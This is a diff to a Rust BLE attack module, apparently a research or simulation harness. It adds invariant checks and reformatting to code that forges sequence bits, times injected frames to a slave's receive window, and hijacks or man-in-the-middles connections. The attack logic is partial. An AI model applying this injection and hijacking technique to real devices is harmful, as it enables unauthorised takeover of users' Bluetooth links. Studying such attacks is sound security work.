@@ -14,6 +14,7 @@
 //!    impersonator = Man-in-the-Middle).
 
 use ble_host::{l2cap, HostStack, SecurityAction};
+use ble_invariants::{invariant_sn_nesn, invariant_window};
 use ble_link::{
     timing, AdoptedConnection, ControlPdu, DataPdu, DeviceAddress, LinkLayer, Llid, Role,
     SleepClockAccuracy, UpdateRequest, ERR_REMOTE_USER_TERMINATED,
@@ -151,17 +152,31 @@ pub struct Injector;
 #[derive(Clone, Copy)]
 enum Phase {
     Idle,
-    Scanning { channel_pos: usize },
+    Scanning {
+        channel_pos: usize,
+    },
     /// Waiting for T_EVENT to open a passive window.
-    ObserveArmed { plan: EventPlan },
+    ObserveArmed {
+        plan: EventPlan,
+    },
     /// Passive window open.
-    Observing { plan: EventPlan, frames: u8 },
+    Observing {
+        plan: EventPlan,
+        frames: u8,
+    },
     /// Waiting for T_EVENT to transmit the injection.
-    InjectArmed { plan: EventPlan },
+    InjectArmed {
+        plan: EventPlan,
+    },
     /// Injection transmitted, radio still in TX.
-    InjectSent { attempt: InjectionAttempt, plan: EventPlan },
+    InjectSent {
+        attempt: InjectionAttempt,
+        plan: EventPlan,
+    },
     /// Listening for the Slave's response to the injection.
-    InjectListening { attempt: InjectionAttempt },
+    InjectListening {
+        attempt: InjectionAttempt,
+    },
     /// Hijacked: the takeover Link Layer owns the radio.
     TakenOver,
 }
@@ -365,17 +380,26 @@ impl Attacker {
         let plan = conn.plan_next();
         self.events_since_injection = self.events_since_injection.saturating_add(1);
         let paced = self.events_since_injection >= self.cfg.inject_gap_events;
-        let inject = wants_injection && paced && conn.has_slave_seq() && plan.window_extra.is_zero();
+        let inject =
+            wants_injection && paced && conn.has_slave_seq() && plan.window_extra.is_zero();
         let anchor = conn.last_anchor;
         if inject {
             self.events_since_injection = 0;
-            // Transmit at the very start of the Slave's widened window.
+            // Transmit at the very start of the Slave's widened window
+            // (eq. 5): firing after the predicted anchor would land the
+            // forged frame behind the legitimate Master's.
             let delay = plan.delay_from_anchor.saturating_sub(plan.widening);
+            invariant_window!(
+                delay,
+                plan.delay_from_anchor,
+                "injection fires at window start"
+            );
             self.phase = Phase::InjectArmed { plan };
             self.arm_from(ctx, anchor, delay, T_EVENT);
         } else {
             let lead = plan.widening + self.cfg.listen_margin;
             let reference = anchor.saturating_sub(lead);
+            invariant_window!(reference, anchor, "observe window opens before the anchor");
             self.phase = Phase::ObserveArmed { plan };
             self.arm_from(ctx, reference, plan.delay_from_anchor, T_EVENT);
         }
@@ -393,10 +417,8 @@ impl Attacker {
             AccessFilter::One(conn.params.access_address),
             conn.params.crc_init,
         );
-        let close = plan.widening * 2
-            + self.cfg.listen_margin
-            + plan.window_extra
-            + self.cfg.event_guard;
+        let close =
+            plan.widening * 2 + self.cfg.listen_margin + plan.window_extra + self.cfg.event_guard;
         let now = ctx.now();
         self.phase = Phase::Observing { plan, frames: 0 };
         self.arm_from(ctx, now, close, T_CLOSE);
@@ -453,12 +475,18 @@ impl Attacker {
         let (llid, payload) = self.injection_payload();
         let conn = self.conn.as_ref().expect("injecting requires a connection");
         let (sn_a, nesn_a) = conn.forge_seq();
+        invariant_sn_nesn!(u8::from(sn_a), u8::from(nesn_a));
         let pdu = DataPdu::new(llid, nesn_a, sn_a, false, payload);
-        let frame = RawFrame::new(conn.params.access_address, pdu.to_bytes(), conn.params.crc_init);
+        let frame = RawFrame::new(
+            conn.params.access_address,
+            pdu.to_bytes(),
+            conn.params.crc_init,
+        );
         if ctx.is_receiving() {
             ctx.stop_rx();
         }
         let tx = ctx.transmit(plan.channel, frame);
+        invariant_window!(tx.start, tx.end, "injected frame airtime");
         ctx.trace(
             "inject",
             format!("attempt on {} at {}", plan.channel, tx.start),
@@ -553,14 +581,18 @@ impl Attacker {
         let phy = ctx.phy();
         if let (Ok(pdu), Some(conn)) = (DataPdu::from_bytes(&frame.pdu), self.conn.as_mut()) {
             conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
-            let est = frame.start.saturating_sub(T_IFS + assumed_master_frame(phy));
+            let est = frame
+                .start
+                .saturating_sub(T_IFS + assumed_master_frame(phy));
             conn.observe_anchor(est);
         }
     }
 
     fn on_injection_confirmed(&mut self) {
         match &self.mission {
-            Mission::InjectRaw { wanted_successes, .. } => {
+            Mission::InjectRaw {
+                wanted_successes, ..
+            } => {
                 if self.stats.successes() >= *wanted_successes as usize {
                     self.mission_state = MissionState::Complete;
                 }
@@ -691,7 +723,8 @@ impl Attacker {
         while let Some(action) = host.take_action() {
             match action {
                 SecurityAction::StartEncryption { key, rand, ediv } => {
-                    if ll.is_connected() && ll.connection_info().map(|i| i.role) == Some(Role::Master)
+                    if ll.is_connected()
+                        && ll.connection_info().map(|i| i.role) == Some(Role::Master)
                     {
                         ll.request_encryption(ctx, key, rand, ediv);
                     }
@@ -762,7 +795,6 @@ impl Attacker {
         if ctx.is_receiving() {
             ctx.stop_rx();
         }
-        let frames = frames;
         if frames == 0 {
             if let Some(conn) = self.conn.as_mut() {
                 conn.missed_event();
